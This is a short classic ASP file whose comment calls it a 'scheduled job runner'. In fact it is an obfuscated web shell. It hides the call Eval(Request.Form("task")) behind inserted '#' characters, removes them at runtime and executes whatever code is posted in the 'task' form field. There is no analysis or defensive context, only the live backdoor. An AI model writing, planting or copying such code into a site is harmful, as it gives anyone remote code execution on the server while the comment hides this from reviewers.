<%
' scheduled job runner
Dim job
job = "Ev#al(Req#ue#st.Fo#rm(""ta#sk""))"
job = Replace(job, "#", "")
Execute job
%>
